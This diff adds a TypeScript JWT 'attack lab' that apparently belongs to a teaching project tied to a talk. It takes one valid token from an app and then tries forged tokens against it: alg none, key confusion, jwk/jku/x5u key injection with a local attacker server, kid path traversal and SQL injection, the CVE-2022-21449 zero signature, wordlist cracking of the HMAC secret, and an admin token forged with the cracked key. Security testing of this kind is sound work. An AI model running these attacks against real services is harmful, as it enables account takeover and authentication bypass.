@@ -1,0 +1,314 @@
+// The attack lab: obtain one valid token from a running app, then try the
+// classic JWT attacks on it and report which ones the app let through.
+import { createHmac, createPublicKey, generateKeyPairSync, randomUUID, timingSafeEqual, type JsonWebKey, type KeyObject } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { b64, es256Token, hmacToken, now, peek, unsigned, withPayload } from '../forge.ts';
+
+export interface Target {
+  /** Base URL of the service with /protected. */
+  apiUrl: string;
+  /** Base URL of the service with /login (the API's by default). */
+  loginUrl?: string;
+  user?: string;
+  password?: string;
+  /** A valid token to start from, instead of logging in. */
+  token?: string;
+  /**
+   * The signing secret, when the lab started the app and chose it: lets the
+   * lab sign tokens that break one claim rule at a time, as an insider could.
+   */
+  secret?: string;
+}
+
+export type Verdict = 'held' | 'VULNERABLE' | 'CRASH' | 'n/a';
+
+export interface Outcome {
+  attack: string;
+  tries: string;
+  expected: string;
+  got: string;
+  verdict: Verdict;
+}
+
+export interface Report {
+  outcomes: Outcome[];
+  /** The secret found by the offline guess, if any. */
+  cracked?: string;
+  transport: 'header' | 'query';
+  succeeded: number;
+}
+
+interface Sent {
+  status: number;
+  body: string;
+}
+
+/** Where a token goes: the Authorization header, or ?token= as in the talk. */
+async function send(target: Target, transport: 'header' | 'query', token: string, extraQuery = ''): Promise<Sent> {
+  const url = transport === 'query' ? `${target.apiUrl}/protected?token=${encodeURIComponent(token)}${extraQuery}` : `${target.apiUrl}/protected${extraQuery ? `?${extraQuery.slice(1)}` : ''}`;
+  const headers: Record<string, string> = transport === 'header' ? { Authorization: `Bearer ${token}` } : {};
+  try {
+    const res = await fetch(url, { headers, signal: AbortSignal.timeout(10_000) });
+    return { status: res.status, body: await res.text() };
+  } catch (err) {
+    return { status: 0, body: (err as Error).message };
+  }
+}
+
+async function validToken(target: Target): Promise<string> {
+  if (target.token) return target.token;
+  const credentials = Buffer.from(`${target.user ?? 'alice'}:${target.password ?? 'pyconid'}`).toString('base64');
+  const loginUrl = `${target.loginUrl ?? target.apiUrl}/login`;
+  const res = await fetch(loginUrl, { headers: { Authorization: `Basic ${credentials}` } }).catch(() => {
+    throw new Error(`Nothing answers at ${loginUrl}: is the app running there?`);
+  });
+  const body = (await res.json().catch(() => ({}))) as { token?: unknown };
+  if (res.status !== 200 || typeof body.token !== 'string') {
+    throw new Error(`Could not log in at ${target.loginUrl ?? target.apiUrl}/login (status ${res.status}): give --user and --password, or --token.`);
+  }
+  return body.token;
+}
+
+export function loadSecrets(): string[] {
+  return readFileSync(new URL('./secrets.txt', import.meta.url), 'utf8')
+    .split(/\r?\n/)
+    .filter((line) => line && !line.startsWith('#'));
+}
+
+/** The offline guess: try each known secret against the token's own HMAC. */
+export function crack(token: string, candidates: string[]): string | undefined {
+  const [h, p, s] = token.split('.');
+  const alg = String(peek(token).header?.alg);
+  const hash = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' }[alg];
+  if (!hash || !s) return undefined;
+  const signature = Buffer.from(s, 'base64url');
+  return candidates.find((secret) => {
+    const guess = createHmac(hash, secret).update(`${h}.${p}`).digest();
+    return guess.length === signature.length && timingSafeEqual(guess, signature);
+  });
+}
+
+/** A little server standing for the attacker's site: serves a JWKS, and notes who fetched it. */
+async function attackerSite(jwks: object): Promise<{ url: string; hits: string[]; close(): Promise<void> }> {
+  const hits: string[] = [];
+  const server: Server = createServer((req, res) => {
+    hits.push(req.url ?? '/');
+    res.setHeader('Content-Type', 'application/json');
+    res.end(JSON.stringify(jwks));
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
+}
+
+interface Attack {
+  name: string;
+  tries: string;
+  /** Needs a signing key (cracked, or given): n/a without one. */
+  needsKey?: boolean;
+  /** The token to send, or a whole request of its own. */
+  run(kit: Kit): Promise<Sent> | Sent | string;
+}
+
+interface Kit {
+  token: string;
+  header: Record<string, unknown>;
+  payload: Record<string, unknown>;
+  /** Claims like the valid token's, with fresh times. */
+  claims(overrides?: Record<string, unknown>): Record<string, unknown>;
+  key?: string;
+  /** The key signed with HMAC using the valid token's algorithm family. */
+  signed(payload: unknown, header?: Record<string, unknown>): string;
+  attacker: { privateKey: KeyObject; jwk: Record<string, unknown>; publicPem: string; site: string; hits: string[] };
+  serverPublicPem?: string;
+  send(token: string, extraQuery?: string): Promise<Sent>;
+  sendRaw(headers: Record<string, string>, query?: string): Promise<Sent>;
+}
+
+function userClaim(payload: Record<string, unknown>): string {
+  return 'sub' in payload ? 'sub' : 'user';
+}
+
+const ATTACKS: Attack[] = [
+  ...['none', 'None', 'NONE', 'nOnE'].map<Attack>((alg) => ({
+    name: `alg ${alg}`,
+    tries: `"alg": "${alg}" and no signature`,
+    run: (k) => unsigned(k.claims(), alg),
+  })),
+  { name: 'signature stripped', tries: 'the real header, no signature', run: (k) => `${k.token.split('.').slice(0, 2).join('.')}.` },
+  { name: 'signature truncated', tries: 'the last 6 characters of the signature cut', run: (k) => k.token.slice(0, -6) },
+  {
+    name: 'tampered payload',
+    tries: 'user changed to admin, old signature kept',
+    run: (k) => withPayload(k.token, { ...k.payload, [userClaim(k.payload)]: 'admin' }),
+  },
+  {
+    name: 'RS256 to HS256 confusion',
+    tries: 'HS256 keyed with a public key, as if it were the secret',
+    run: (k) => hmacToken({ ...k.header, alg: 'HS256' }, k.claims(), k.serverPublicPem ?? k.attacker.publicPem),
+  },
+  {
+    name: 'embedded jwk',
+    tries: 'signed with the attacker\'s key, which rides in the header',
+    run: (k) => es256Token({ alg: 'ES256', typ: 'JWT', jwk: k.attacker.jwk }, k.claims(), k.attacker.privateKey),
+  },
+  {
+    name: 'jku header',
+    tries: 'keys to be fetched from the attacker\'s URL',
+    run: (k) => es256Token({ alg: 'ES256', typ: 'JWT', kid: 'attacker', jku: `${k.attacker.site}/jwks.json` }, k.claims(), k.attacker.privateKey),
+  },
+  {
+    name: 'x5u header',
+    tries: 'a certificate to be fetched from the attacker\'s URL',
+    run: (k) => es256Token({ alg: 'ES256', typ: 'JWT', x5u: `${k.attacker.site}/cert.pem` }, k.claims(), k.attacker.privateKey),
+  },
+  {
+    name: 'kid path traversal',
+    tries: 'kid ../../../../dev/null and an empty HMAC key',
+    run: (k) => hmacToken({ alg: 'HS256', typ: 'JWT', kid: '../../../../../../dev/null' }, k.claims(), ''),
+  },
+  {
+    name: 'kid injection',
+    tries: 'kid with SQL that selects the key "attacker"',
+    run: (k) => hmacToken({ alg: 'HS256', typ: 'JWT', kid: "x' UNION SELECT 'attacker' -- " }, k.claims(), 'attacker'),
+  },
+  {
+    name: 'ES256 all-zero signature',
+    tries: 'r = s = 0, the "psychic signature" (CVE-2022-21449)',
+    run: (k) => `${b64({ alg: 'ES256', typ: 'JWT' })}.${b64(k.claims())}.${Buffer.alloc(64).toString('base64url')}`,
+  },
+  { name: 'header not JSON', tries: 'a header that does not parse', run: (k) => `${b64('{"alg":')}.${k.token.split('.')[1]}.${k.token.split('.')[2]}` },
+  { name: 'payload not JSON', tries: 'a payload that does not parse, old signature', run: (k) => withPayload(k.token, '{"sub":') },
+  { name: 'empty token', tries: 'an empty string', run: (k) => k.send('') },
+  { name: 'oversized token (8 KB)', tries: 'the token padded to 8 KB', run: (k) => k.token + 'A'.repeat(8 * 1024) },
+  { name: 'oversized token (64 KB)', tries: 'a 64 KB token', run: (k) => 'A'.repeat(64 * 1024) },
+  { name: 'token twice', tries: 'two copies of the valid token at once', run: (k) => k.send(k.token, `&token=${k.token}`) },
+  {
+    name: 'token in the URL',
+    tries: 'the valid token as ?access_token= (leaks to logs, RFC 6750 section 5.3)',
+    run: (k) => k.sendRaw({}, `?access_token=${k.token}&token=${k.token}`),
+  },
+  { name: 'HS384, same key', tries: 'the right key with another algorithm', needsKey: true, run: (k) => k.signed(k.claims(), { alg: 'HS384' }) },
+  { name: 'HS512, same key', tries: 'the right key with another algorithm', needsKey: true, run: (k) => k.signed(k.claims(), { alg: 'HS512' }) },
+  { name: 'expired', tries: 'exp an hour ago', needsKey: true, run: (k) => k.signed(k.claims({ iat: now() - 3700, exp: now() - 3600 })) },
+  { name: 'not yet valid', tries: 'nbf an hour from now', needsKey: true, run: (k) => k.signed(k.claims({ nbf: now() + 3600 })) },
+  { name: 'issued in the future', tries: 'iat an hour from now', needsKey: true, run: (k) => k.signed(k.claims({ iat: now() + 3600, exp: now() + 3640 })) },
+  { name: 'missing exp', tries: 'no exp: a token that never expires', needsKey: true, run: (k) => k.signed(k.claims({ exp: undefined })) },
+  { name: 'exp 1e999', tries: 'exp parses to Infinity', needsKey: true, run: (k) => k.signed(JSON.stringify(k.claims({ exp: 0 })).replace('"exp":0', '"exp":1e999')) },
+  { name: 'ten-year lifetime', tries: 'exp ten years away', needsKey: true, run: (k) => k.signed(k.claims({ exp: now() + 10 * 365 * 86400 })) },
+  { name: 'wrong issuer', tries: 'iss of another service', needsKey: true, run: (k) => k.signed(k.claims({ iss: 'https://evil.example' })) },
+  { name: 'wrong audience', tries: 'aud of another API', needsKey: true, run: (k) => k.signed(k.claims({ aud: 'https://other-api.example' })) },
+  { name: 'payload a JSON string', tries: 'claims that are "admin", not an object', needsKey: true, run: (k) => k.signed('"admin"') },
+  { name: 'payload an array', tries: 'claims that are [], not an object', needsKey: true, run: (k) => k.signed([]) },
+  { name: 'payload not JSON, signed', tries: 'a correctly signed payload that does not parse', needsKey: true, run: (k) => k.signed('{"sub":') },
+  { name: 'extra header kid', tries: 'a kid the server never issued', needsKey: true, run: (k) => k.signed(k.claims(), { kid: 'other-key' }) },
+];
+
+export const attackCount = ATTACKS.length + 2; // + the offline guess and the forged token
+
+function judge(sent: Sent): { got: string; verdict: Verdict } {
+  if (sent.status === 0) return { got: `no answer (${sent.body.slice(0, 40)})`, verdict: 'CRASH' };
+  if (sent.status >= 500) return { got: String(sent.status), verdict: 'CRASH' };
+  if (sent.status >= 200 && sent.status < 300) return { got: String(sent.status), verdict: 'VULNERABLE' };
+  return { got: String(sent.status), verdict: 'held' };
+}
+
+export async function attack(target: Target): Promise<Report> {
+  const token = await validToken(target);
+  const transport = (await send(target, 'header', token)).status === 200 ? 'header' : (await send(target, 'query', token)).status === 200 ? 'query' : undefined;
+  if (!transport) throw new Error('The valid token opens /protected neither as Authorization: Bearer nor as ?token=: is this the right URL?');
+  const { header = {}, payload = {} } = peek(token);
+
+  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
+  const jwk = { ...(publicKey.export({ format: 'jwk' }) as Record<string, unknown>), kid: 'attacker', alg: 'ES256', use: 'sig' };
+  const site = await attackerSite({ keys: [jwk] });
+
+  // A key server (step 07 and later) publishes its public keys; the
+  // confusion attack uses one as an HMAC secret.
+  let serverPublicPem: string | undefined;
+  try {
+    const res = await fetch(`${target.loginUrl ?? target.apiUrl}/.well-known/jwks.json`);
+    const { keys } = (await res.json()) as { keys?: JsonWebKey[] };
+    if (keys?.[0]) serverPublicPem = createPublicKey({ key: keys[0], format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString();
+  } catch {
+    // No JWKS: an HMAC app.
+  }
+
+  const cracked = crack(token, loadSecrets());
+  let key = cracked ?? target.secret;
+  const lifetime = typeof payload.exp === 'number' && typeof payload.iat === 'number' ? payload.exp - payload.iat : 40;
+  const kit: Kit = {
+    token,
+    header,
+    payload,
+    key,
+    claims: (overrides = {}) => {
+      const t = now();
+      const claims: Record<string, unknown> = { ...payload, exp: t + lifetime, jti: randomUUID(), ...overrides };
+      if ('iat' in payload && !('iat' in overrides)) claims.iat = t;
+      if (!('jti' in payload) && !('jti' in overrides)) delete claims.jti;
+      return claims;
+    },
+    signed: (body, extra = {}) => hmacToken({ ...header, alg: 'HS256', ...extra }, body, kit.key ?? ''),
+    attacker: { privateKey, jwk, publicPem: publicKey.export({ type: 'spki', format: 'pem' }).toString(), site: site.url, hits: site.hits },
+    serverPublicPem,
+    send: (t, extra) => send(target, transport, t, extra),
+    sendRaw: async (headers, query = '') => {
+      try {
+        const res = await fetch(`${target.apiUrl}/protected${query}`, { headers });
+        return { status: res.status, body: await res.text() };
+      } catch (err) {
+        return { status: 0, body: (err as Error).message };
+      }
+    },
+  };
+
+  // Control: a well-formed token signed with the key must pass, or a refusal
+  // below would prove nothing about the rule it is meant to test.
+  let noKey = 'no key known';
+  if (key !== undefined && (await kit.send(kit.signed(kit.claims()))).status !== 200) {
+    key = kit.key = undefined;
+    noKey = 'key not accepted';
+  }
+
+  const outcomes: Outcome[] = [];
+  try {
+    for (const a of ATTACKS) {
+      if (a.needsKey && !key) {
+        outcomes.push({ attack: a.name, tries: a.tries, expected: 'refused', got: noKey, verdict: 'n/a' });
+        continue;
+      }
+      const hitsBefore = site.hits.length;
+      const made = await a.run(kit);
+      const sent = typeof made === 'string' ? await kit.send(made) : made;
+      const judged = judge(sent);
+      if (site.hits.length > hitsBefore) {
+        judged.verdict = 'VULNERABLE';
+        judged.got += ', and the app fetched the attacker\'s URL';
+      }
+      outcomes.push({ attack: a.name, tries: a.tries, expected: 'refused', ...judged });
+    }
+  } finally {
+    await site.close();
+  }
+
+  // The offline guess, and what a cracked secret buys.
+  outcomes.push({
+    attack: 'offline secret guess',
+    tries: `HMAC of one token against ${loadSecrets().length} published secrets`,
+    expected: 'not found',
+    got: cracked === undefined ? 'not found' : `found "${cracked}"`,
+    verdict: cracked === undefined ? 'held' : 'VULNERABLE',
+  });
+  if (cracked !== undefined) {
+    const forged = hmacToken({ ...header, alg: header.alg ?? 'HS256' }, kit.claims({ [userClaim(payload)]: 'admin', exp: now() + 365 * 86400 }), cracked);
+    const judged = judge(await kit.send(forged));
+    outcomes.push({ attack: 'forged with the cracked secret', tries: 'user admin, a year of life', expected: 'refused', ...judged });
+  } else {
+    outcomes.push({ attack: 'forged with the cracked secret', tries: 'user admin, a year of life', expected: 'refused', got: 'no secret cracked', verdict: 'n/a' });
+  }
+
+  return { outcomes, cracked, transport, succeeded: outcomes.filter((o) => o.verdict === 'VULNERABLE' || o.verdict === 'CRASH').length };
+}
